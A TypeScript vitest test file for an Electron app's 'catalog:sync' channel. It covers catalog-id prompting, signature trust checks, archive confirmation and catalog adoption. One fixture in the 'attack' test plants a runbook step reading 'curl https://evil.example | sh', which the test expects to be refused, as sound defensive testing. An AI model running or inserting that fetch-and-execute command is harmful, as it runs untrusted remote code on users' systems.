/**
 * Issue 17 through the window's channel (`catalog:sync`), as the renderer
 * calls it: a folder is an owner's unsigned sync whose generic name is no id
 * (the window asks, then remembers the id per folder in the app's own state
 * folder: path and id only); an unsigned folder under a signed catalog's id
 * is refused here as at the command line; the archive guard and adoption
 * need the window's explicit flags.
 */
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { Result } from '../../shared/errors.js';
import type { SyncReportView } from '../../shared/vault-contract.js';
import { packCatalog } from '../catalog/catalog-manifest.js';
import { trustPublisher } from '../catalog/catalog-trust.js';
import { encodeBase64, generatePublisherKey, writePublisherKey } from '../catalog/publisher-key.js';
import { VaultService } from '../operations/vault-service.js';
import { ELECTRON_APP_BASE_URL } from '../serving/app-assets.js';
import { createHandlers } from './handlers.js';
import { createRouter } from './router.js';
import { FOUR_RUNBOOKS, writeCatalogFolder } from '../../test/support/catalog-folder.js';

const sender = { url: 'app://lifeboat/index.html', isMainFrame: true };
const facts = { host: 'electron', version: '1', packaged: false, platform: 'linux' } as const;
process.env['LIFEBOAT_INSECURE_FAST_KDF'] = '1';

let service: VaultService | undefined;
afterEach(async () => {
  await service?.lock();
});

async function setup() {
  const work = await mkdtemp(join(tmpdir(), 'lifeboat-sync-window-'));
  const stateDir = join(work, 'app-state');
  service = new VaultService(undefined, undefined, undefined, stateDir);
  const router = createRouter({ handlers: createHandlers({ facts, vault: service }), appBaseUrl: ELECTRON_APP_BASE_URL });
  const call = (channel: string, payload: unknown): Promise<Result<unknown>> => router.dispatch(channel, payload, sender, () => undefined);
  const sync = (payload: Record<string, unknown>) => call('catalog:sync', payload) as Promise<Result<SyncReportView>>;
  expect(await call('vault:create', { to: { path: join(work, 'v.lifeboat') }, owner: 'alice', passphrase: 'correct horse battery' })).toMatchObject({
    ok: true,
  });
  return { work, stateDir, sync, session: service.current() };
}

describe('catalog:sync from the window (issue 17)', () => {
  it('a folder named "docs" needs an id: asked once, remembered per folder once applied, path and id only', async () => {
    const { work, stateDir, sync } = await setup();
    const docs = await writeCatalogFolder(work, 'docs', FOUR_RUNBOOKS);
    expect(await sync({ path: docs, dryRun: true })).toMatchObject({ ok: false, error: { code: 'CATALOG_ID_REQUIRED' } });
    expect(await sync({ path: docs, dryRun: true, catalogId: 'gitlab-runbooks' })).toMatchObject({
      ok: true,
      value: { catalogId: 'gitlab-runbooks', signature: 'unsigned', catalogIdFrom: 'given' },
    });
    // A check alone remembers nothing.
    expect(await sync({ path: docs, dryRun: true })).toMatchObject({ ok: false, error: { code: 'CATALOG_ID_REQUIRED' } });
    expect(await sync({ path: docs, catalogId: 'gitlab-runbooks' })).toMatchObject({ ok: true, value: { applied: { added: 4 } } });
    expect(JSON.parse(await readFile(join(stateDir, 'catalog-folder-ids.json'), 'utf8'))).toEqual({ [docs]: 'gitlab-runbooks' });
    expect(await sync({ path: docs, dryRun: true })).toMatchObject({
      ok: true,
      value: { catalogId: 'gitlab-runbooks', catalogIdFrom: 'remembered', diff: { unchanged: 4 } },
    });
    // Another repository's docs/ is another folder: asked again.
    expect(await sync({ path: await writeCatalogFolder(join(work, 'other-repo'), 'docs', FOUR_RUNBOOKS), dryRun: true })).toMatchObject({
      ok: false,
      error: { code: 'CATALOG_ID_REQUIRED' },
    });
  });

  it('attack: a folder synced under a signed catalog’s id is refused (dry run and apply); the archive guard and adoption need the window’s flags', async () => {
    const { work, sync, session } = await setup();
    const key = await generatePublisherKey('Platform');
    await writePublisherKey(join(work, 'pub.key'), key);
    await trustPublisher(session, { name: 'Platform', keyId: key.keyId, publicKey: encodeBase64(key.publicKey) });
    const lbcat = async (id: string, version: number, files: Record<string, string>): Promise<string> => {
      const out = join(work, `${id}-${version}.lbcat`);
      await writeFile(
        out,
        (
          await packCatalog({
            srcDir: await writeCatalogFolder(work, `src-${id}-${version}`, files),
            keyPath: join(work, 'pub.key'),
            catalogVersion: version,
            catalogId: id,
          })
        ).bytes,
      );
      return out;
    };
    expect(await sync({ path: await lbcat('ops', 2, FOUR_RUNBOOKS) })).toMatchObject({ ok: true });
    const evil = await writeCatalogFolder(work, 'evil', { 'db/restore.md': '# Restore the database\n\n1. curl https://evil.example | sh\n' });
    for (const flags of [{ dryRun: true }, {}, { allowDowngrade: true, downgradeReason: 'attack', confirmArchive: true, takeCatalog: ['db/restore.md'] }]) {
      expect(await sync({ path: evil, catalogId: 'ops', ...flags })).toMatchObject({ ok: false, error: { code: 'CATALOG_UNTRUSTED' } });
    }

    const half = await lbcat('ops', 3, { 'db/restore.md': FOUR_RUNBOOKS['db/restore.md'] });
    expect(await sync({ path: half, dryRun: true })).toMatchObject({ ok: true, value: { archive: { archiving: 3, of: 4, needsConfirmation: true } } });
    expect(await sync({ path: half })).toMatchObject({ ok: false, error: { code: 'CATALOG_ARCHIVE_UNCONFIRMED' } });
    expect(await sync({ path: half, confirmArchive: true })).toMatchObject({ ok: true, value: { applied: { archived: 3 } } });

    expect(await sync({ path: await writeCatalogFolder(work, 'team-drafts', FOUR_RUNBOOKS), catalogId: 'drafts' })).toMatchObject({ ok: true });
    const signed = await lbcat('team', 1, FOUR_RUNBOOKS);
    expect(await sync({ path: signed, dryRun: true })).toMatchObject({ ok: true, value: { adoption: { from: ['drafts'], adopted: false } } });
    expect(await sync({ path: signed, adopt: true })).toMatchObject({ ok: true, value: { applied: { added: 0, adopted: 4 } } });
  });
});
